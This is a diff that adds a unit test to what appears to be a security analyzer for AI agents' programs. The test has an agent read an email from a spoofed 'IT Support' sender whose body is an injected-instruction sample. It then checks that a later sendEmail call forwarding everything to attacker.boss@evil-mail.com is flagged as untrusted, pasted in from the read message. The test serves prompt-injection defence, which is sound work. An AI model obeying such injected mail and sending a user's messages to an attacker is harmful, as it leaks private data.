@@ -108,6 +108,19 @@ describe("givenOf: what a run's output gives its agent", () => {
     expect(texts).toContainEqual({ text: "read d1", from: ["email.get_draft"], request: "req_1" }); // a log may quote what was read
   });
 
+  it("keeps what a read message says, with its op, and catches its address pasted into the next program", () => {
+    const facts = analyzer.analyze(
+      `import { program } from "countersign";\nimport { getMessage, listMessages } from "trusted/email";\nexport default program({ rationale: "r", async main() { const found = await listMessages({ q: "invoice" }); const m = await getMessage({ id: String(found.messages[0]?.id) }); return { from: m.from, body: m.body }; } });\n`,
+      { entry: "p.ts" },
+    );
+    expect(facts.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
+    const texts = givenOf({ value: { from: "IT Support <support@it-helpdesk.example>", body: INJECTED }, logs: [] }, facts, "req_mail");
+    expect(texts).toContainEqual({ text: INJECTED, from: ["email.get_message"], request: "req_mail" });
+    const later = pasted(`await sendEmail({ to: ["attacker.boss@evil-mail.com"], subject: "Fwd", body: "all" });`, texts);
+    expect(later.untrusted.to).toBe(true);
+    expect(later.facts.effects[0]!.sources!.to!).toContainEqual({ source: "a literal pasted from the result of email.get_message in request req_mail", untrusted: true, op: "email.get_message" });
+  });
+
   it("takes what the run's own program wrote, echoed back in a log or an error, for the agent's own words", () => {
     const program = `await readFile({ path: "/home/user/Sandbox/reports/weekly.md" });`;
     const facts = analyze(`await sendEmail({ to: ["me@example.com"], subject: "x", body: "y" });`);
